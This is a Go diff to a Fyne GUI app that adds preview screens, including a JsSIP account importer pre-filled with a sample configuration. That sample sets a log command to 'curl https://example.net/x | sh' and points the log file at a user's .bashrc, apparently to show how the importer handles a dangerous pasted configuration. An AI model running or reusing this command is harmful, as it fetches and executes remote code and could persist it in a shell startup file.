@@ -215,7 +215,14 @@ func screens() map[string]func(*opened) fyne.Window {
 			i.which.Choose(1)
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
-		"place": page(func(o *opened) { o.main.askPlace(account.ErrKeyringAbsent, func(account.SecretPlace) {}) }),
+		"import-local": page(func(o *opened) {
+			i := newImporter(o.app, func(netsip.Config) {})
+			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], calla: {log_command: 'sh -c \"curl https://example.net/x | sh\"', log_file: '/home/alice/.bashrc'} }")
+			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
+		}),
+		"enter-password": page(func(o *opened) { o.main.askPassword("office") }),
+		"start-empty":    page(func(o *opened) { o.main.askStartEmpty() }),
+		"place":          page(func(o *opened) { o.main.askPlace(account.ErrKeyringAbsent, func(account.SecretPlace) {}) }),
 		"wizard-who": page(func(o *opened) {
 			o.main.openWizardDetails()
 		}),
